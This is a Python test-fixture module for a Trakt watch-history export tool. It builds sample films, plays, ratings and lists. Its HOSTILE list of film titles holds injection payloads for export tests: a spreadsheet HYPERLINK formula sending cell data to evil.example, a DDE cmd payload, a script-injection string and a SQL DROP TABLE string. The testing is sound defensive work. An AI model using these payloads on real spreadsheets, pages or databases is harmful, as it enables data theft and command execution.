"""A small book with hostile titles, written by hand, and one that was synced from the sandbox."""

from __future__ import annotations

import json
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from tests.sync.conftest import Book, MakeBook, make_book
from watchbook.clock import from_iso, to_millis
from watchbook.exporting.formats import FORMATS
from watchbook.exporting.placing import export
from watchbook.exporting.selection import Selection
from watchbook.exporting.written import Written
from watchbook.history import play_row
from watchbook.store import accounts, datasets, items, plays
from watchbook.store.accounts import Account
from watchbook.store.datasets import DataSetState
from watchbook.store.items import ItemRow
from watchbook.store.opening import Store
from watchbook.store.schema import items as item_table
from watchbook.store.schema import plays as play_table
from watchbook.store.titles import TitleWriter
from watchbook.trakt.datasets import of
from watchbook.trakt.parse import ParsedItem, ParsedPlay, parse_item, parse_play

__all__ = ["make_book"]

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\ttab in front",
    "\rreturn in front",
    "\nline in front",
    "  =spaces in front",
    "Quotes \"double\" and 'single', commas; semicolons",
    "two\r\nlines\nand a third",
    "עברית \u202emirrored\u202c العربية",
    "🎬 emoji 👩‍👩‍👧 and 汉字",
    "</script><script>alert(1)</script><!--",
    "'); DROP TABLE plays; --",
    "\\u0000 \\n backslashes \\",
    "a\0b",
    "x" * 3_000,
)
"""Titles that other people may have given to a film."""


@dataclass
class Filled:
    """A store with an account, and ways to put rows in and let them out."""

    store: Store
    account: Account
    folder: Path
    made: int = 0

    def plays(self, *rows: dict[str, Any]) -> None:
        """Keep rows of history."""
        found = [parse_play(json.dumps(row).encode()) for row in rows]
        good = [play for play in found if isinstance(play, ParsedPlay)]
        assert len(good) == len(rows)
        with self.store.database.write() as conn:
            TitleWriter().save(conn, [title for play in good for title in play.titles])
            plays.save(conn, self.account.id, map(play_row, good), 1, 0)

    def items(self, data_set: str, *rows: dict[str, Any]) -> None:
        """Keep rows of another data set."""
        raws = [json.dumps(row).encode() for row in rows]
        found = [parse_item(raw, of(data_set), place) for place, raw in enumerate(raws)]
        good = [item for item in found if isinstance(item, ParsedItem)]
        assert len(good) == len(rows)
        kept = [ItemRow(i.key, i.type, i.title_key, n, i.raw) for n, i in enumerate(good)]
        with self.store.database.write() as conn:
            TitleWriter().save(conn, [title for item in good for title in item.titles])
            items.save(conn, self.account.id, data_set, kept, 1, 0)
        self.read(data_set)

    def read(self, *names: str) -> None:
        """Say that data sets were read to their end."""
        with self.store.database.write() as conn:
            for name in names:
                state = DataSetState(name, datasets.COMPLETE, guard="[1]", generation=1)
                datasets.save(conn, self.account.id, state)

    def remove_play(self, history_id: int) -> None:
        """Let a play be gone at Trakt."""
        gone = to_millis(from_iso("2026-11-01T00:00:00Z"))
        ours = play_table.c.history_id == history_id
        with self.store.database.write() as conn:
            conn.execute(sa.update(play_table).where(ours).values(removed_at=gone))

    def remove_item(self, data_set: str, key: str) -> None:
        """Let a row be gone at Trakt."""
        ours = (item_table.c.data_set == data_set) & (item_table.c.key == key)
        with self.store.database.write() as conn:
            conn.execute(sa.update(item_table).where(ours).values(removed_at=1_000))

    def export(
        self, name: str, selection: Selection | None = None, *, to: str = "", **options: Any
    ) -> Written:
        """Export in a format, to a new file."""
        self.made += 1
        target = self.folder / (to or f"{self.made}{FORMATS[name].suffix}")
        return out(self.store, self.account, name, target, selection, **options)


def out(
    store: Store,
    account: Account,
    name: str,
    target: Path,
    selection: Selection | None = None,
    **options: Any,
) -> Written:
    """Export in a format to a file."""
    write = FORMATS[name].write
    return export(write, store, account, selection or Selection(), target, **options)


def film(number: int, title: str | None = None, year: int = 2001) -> dict[str, Any]:
    """A film as Trakt shows it."""
    ids = {"trakt": number, "slug": f"film-{number}", "imdb": f"tt{number:07}", "tmdb": number * 10}
    return {"title": title or f"Film {number}", "year": year, "ids": ids}


def show(number: int, title: str | None = None) -> dict[str, Any]:
    """A show as Trakt shows it."""
    ids = {"trakt": number, "slug": f"show-{number}", "tvdb": number * 3}
    return {"title": title or f"Show {number}", "year": 1999, "ids": ids}


def episode(number: int, season: int = 1, place: int = 1, title: str = "Pilot") -> dict[str, Any]:
    """An episode as Trakt shows it."""
    return {"season": season, "number": place, "title": title, "ids": {"trakt": number}}


def film_play(
    history_id: int, number: int, at: str = "2026-05-01T20:15:00.000Z", **more: Any
) -> dict[str, Any]:
    """A row of history about a film."""
    head = {"id": history_id, "watched_at": at, "action": "watch", "type": "movie"}
    return {**head, "movie": film(number, **more)}


def episode_play(
    history_id: int, number: int, at: str = "2026-05-02T20:15:00.000Z", **more: Any
) -> dict[str, Any]:
    """A row of history about an episode of show 70."""
    head = {"id": history_id, "watched_at": at, "action": "scrobble", "type": "episode"}
    return {**head, "episode": episode(number, **more), "show": show(70)}


def rated(number: int, rating: int, at: str = "2026-06-01T08:00:00.000Z") -> dict[str, Any]:
    """A rating of a film."""
    return {"rated_at": at, "rating": rating, "type": "movie", "movie": film(number)}


def listed(number: int, kind: str, about: dict[str, Any], **more: Any) -> dict[str, Any]:
    """A row of a list about a title (``about`` holds its object, and its show's)."""
    at = "2026-07-01T08:00:00.000Z"
    return {"rank": number, "id": number, "listed_at": at, "type": kind, **about, **more}


def a_list(number: int, name: str, slug: str) -> dict[str, Any]:
    """A personal list."""
    return {
        "name": name,
        "description": "about it",
        "privacy": "private",
        "share_link": "[redacted]",
        "type": "personal",
        "created_at": "2020-01-01T00:00:00.000Z",
        "item_count": 1,
        "ids": {"trakt": number, "slug": slug},
        "user": {"username": "sandra"},
    }


def filled(store: Store, folder: Path) -> Filled:
    """An account in ``store`` with nothing in it."""
    folder.mkdir(exist_ok=True)
    with store.database.write() as conn:
        account = accounts.add(conn, "sandra", trakt_slug="sandra", timezone="Europe/Berlin")
    return Filled(store, account, folder)


@pytest.fixture
def empty(store: Store, tmp_path: Path) -> Filled:
    """Sandra's account, without a row."""
    return filled(store, tmp_path / "out")


@pytest.fixture
def small(empty: Filled) -> Filled:
    """A little of what the formats tell apart."""
    empty.plays(
        film_play(11, 1, "1970-01-01T00:00:00.000Z"),
        film_play(12, 1, "2025-12-31T23:30:00.000Z"),
        film_play(13, 2, "2026-05-01T20:15:00.000Z"),
        episode_play(14, 701, "2026-05-02T20:15:00.000Z"),
        episode_play(15, 702, "2026-05-03T20:15:00.000Z", place=2, title="The Next One"),
    )
    empty.items("ratings_movies", rated(1, 9), rated(3, 4))
    empty.items(
        "ratings_episodes",
        {
            "rated_at": "2026-05-04T00:00:00.000Z",
            "rating": 7,
            "type": "episode",
            "episode": episode(702, place=2, title="The Next One"),
            "show": show(70),
        },
    )
    empty.items(
        "watchlist",
        listed(1, "movie", {"movie": film(4)}, notes="soon"),
        listed(2, "show", {"show": show(71)}),
    )
    empty.items("favorites", listed(3, "movie", {"movie": film(1)}))
    empty.items("lists", a_list(501, "Rainy Days", "rainy-days"), a_list(502, "Zweite", "zweite"))
    person = {"name": "Ida Lupino", "ids": {"trakt": 9}}
    empty.items(
        "list_items/501",
        listed(5, "movie", {"movie": film(2)}),
        listed(6, "person", {"person": person}),
    )
    empty.items("list_items/502", listed(7, "show", {"show": show(70)}))
    return empty


def hostile(book: Filled) -> Iterable[str]:
    """Put films with hostile titles into ``book``: watched, rated, listed and commented on."""
    day = "2026-08-{:02}T12:00:00.000Z"
    numbers = range(100, 100 + len(HOSTILE))
    rows = [
        film_play(n, n, day.format(place), title=title)
        for place, (n, title) in enumerate(zip(numbers, HOSTILE, strict=True), 1)
    ]
    book.plays(*rows)
    films = [row["movie"] for row in rows]
    book.items("watchlist", *(listed(n, "movie", {"movie": f}) for n, f in enumerate(films)))
    book.items("lists", *(a_list(n, title, f"l{n}") for n, title in enumerate(HOSTILE, 600)))
    return HOSTILE


@pytest.fixture
def synced(make_book: MakeBook, store: Store) -> Book:
    """A book of 600 plays, read from the sandbox, on each database."""
    book = make_book(store)
    assert book.sync().complete
    return book
